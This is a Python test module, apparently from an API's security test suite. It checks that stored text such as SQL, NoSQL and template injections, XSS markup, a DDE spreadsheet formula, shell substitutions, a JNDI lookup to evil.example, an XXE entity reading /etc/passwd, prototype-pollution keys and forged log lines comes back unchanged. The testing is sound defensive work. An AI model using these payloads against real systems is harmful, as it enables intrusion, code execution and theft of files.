"""What may be stored and must stay what it is: text that others could take for code, markup, or a line of a log."""

from collections.abc import Callable
from typing import Any

from tests.attacks.case import Case

_D = '/datasets/@play@'
_T = '/tasks/@play_task@'

_TEXTS = {
    'variable of the database': '$$ROOT', 'the time of the database': '$$NOW', 'removal': '$$REMOVE', 'field': '$status',
    'script': "'; return true; //", 'statement': "'; DROP TABLE tasks; --", 'markup': '<script>alert(1)</script>', 'entity': '&lt;b&gt;',
    'formula': '=cmd|"/C calc"!A0', 'at formula': '@SUM(1)', 'template': '{{7*7}}', 'template of a shell': '$(touch x)', 'backticks': '`id`',
    'format': '%s%s%n', 'format of Python': '{0.__class__}', 'lookup': '${jndi:ldap://evil.example/x}', 'address': 'javascript:alert(1)',
    'right to left': '\u202egpj.exe', 'zero width': 'a\u200bb', 'flag': '--help', 'JSON': '{"$where":"1"}', 'XML': '<!ENTITY x SYSTEM "file:///etc/passwd">',
    'terminal': '[2J[31m', 'emoji': '\U0001f4a3', 'non-character': '\ufdd0', 'ends like a script': '</script>', 'null': 'null', 'NaN': 'NaN',
}  # fmt: skip


def _place(method: str, path: str, body: Callable[[str], Any], read: str) -> tuple[str, str, Callable[[str], Any], str]:
    return method, path, body, read


_PLACES = {
    'own key': _place('PATCH', _T, lambda text: {'colour': text}, _T),
    'site': _place('PATCH', _T, lambda text: {'site': text}, _T),
    'description': _place('PUT', f'{_D}/description', lambda text: {'description': text}, _D),
    'host of a pilot': _place('PATCH', '/pilots/@play_pilot@', lambda text: {'host': text}, '/pilots/@play_pilot@'),
    'own key of a job': _place('PATCH', '/jobs/@play_job@', lambda text: {'comment': text}, '/jobs/@play_job@'),
    'version of a grid': _place('PATCH', '/grids/@play_grid@', lambda text: {'version': text}, '/grids/@play_grid@'),
    'requirement of one': _place('PATCH', _T, lambda text: {'requirements': {'licence': text}}, _T),
    'requirement of all': _place('PATCH', f'{_D}/task_actions/bulk_requirements/precious', lambda text: {'site': text}, _T),
    'list of requirements': _place('PATCH', f'{_D}/task_actions/bulk_requirements/precious', lambda text: {'os': [text]}, _T),
    'foreign config': _place('PUT', '/config/@play@', lambda text: {'version': 3, 'tasks': [], 'steering': text}, '/config/@play@'),
    'file': _place('POST', f'{_D}/files/@play_task@', lambda text: {'filename': text, 'movement': 'output'}, f'{_D}/files/@play_task@'),
    'log': _place('POST', '/logs', lambda text: {'data': text, 'name': 'injected', 'task_id': '@play_task@'}, '/logs?name=injected&keys=data'),
    'measurement': _place('POST', f'{_T}/task_stats', lambda text: {'dataset_id': '@play@', 'told': text}, f'{_D}/tasks/@play_task@/task_stats'),
}  # fmt: skip
# Everything once in a key of one's own; in the other places what the database or a shell would take for its own.
_PROBES = ('variable of the database', 'field', 'removal')
_FORGED = 'x\nFORGED {"level": "ERROR"}\r\nFORGED\x85FORGED\u2028FORGED'
_KEYS = (
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    '__class__',
    '__init__',
    'hasOwnProperty',
    'valueOf',
    '__defineGetter__',
)


def _json(text: str) -> str:
    """A text as our JSON has it."""
    return '"' + text.replace('\\', '\\\\').replace('"', '\\"').replace('\x1b', '\\u001b') + '"'


CASES = (
    *(
        Case(f'stored: {name} in {place}', (200, 201), method, path, body=body(text), then=(read, _json(text)))
        for place, (method, path, body, read) in _PLACES.items()
        for name, text in _TEXTS.items()
        if place == 'own key' or name in _PROBES
    ),
    *(Case(f'stored: key {key}', (200, 400), 'PATCH', _T, body={key: {'isAdmin': True}}) for key in _KEYS),
    *(Case(f'stored: key {key} deep', (200, 400), 'PATCH', _T, body={'note': {key: {'status': 'complete'}}}) for key in _KEYS[:3]),
    Case('stored: key __proto__ of a claim', (200, 400, 404), 'POST', '/task_actions/process',
         body={'query_params': {'dataset_id': 'nothing'}, '__proto__': {'roles': ['admin']}}),
    Case('stored: key __proto__ of a query', (400,), 'POST', '/task_actions/process', body={'query_params': {'__proto__': {'$ne': 1}}}),
    Case('forged line: own key', (200,), 'PATCH', _T, body={'note': _FORGED}),
    Case('forged line: reason of an action', (200, 400), 'POST', f'{_D}/task_actions/suspend', body={'reason': _FORGED}),
    Case('forged line: reason of a report', (400, 409), 'POST', f'{_T}/task_actions/complete', body={'reason': _FORGED}),
    Case('forged line: bad key', (400,), 'PATCH', _T, body={'$' + _FORGED: 1}),
    Case('forged line: bad status', (400,), 'PUT', f'{_T}/status', body={'status': _FORGED}),
    Case('forged line: bad filter', (400,), 'POST', '/task_actions/process', body={'query_params': {_FORGED: 1}}),
    Case('forged line: name of a user', (400, 404), path='/users/x%0aFORGED%0d%0aFORGED'),
    Case('forged line: path', (400, 404), path='/%0aFORGED%0d%0aFORGED'),
    Case('forged line: query', (200, 400), path='/tasks?limit=1&status=%0aFORGED'),
    Case('forged line: agent', (200,), headers=(('User-Agent', '\\nFORGED\\r\\nFORGED'),)),
    Case('forged line: bad token', (401,), path='/tasks', sender='nobody', headers=(('Authorization', 'Bearer %0aFORGED'),)),
    Case('forged line: log', (201,), 'POST', '/logs', body={'data': _FORGED, 'name': 'forged'}),
    Case('forged line: pilot', (200, 400), 'PATCH', '/pilots/@play_pilot@', body={'site': _FORGED}),
    Case('forged line: description', (200,), 'PUT', f'{_D}/description', body={'description': _FORGED}),
)  # fmt: skip
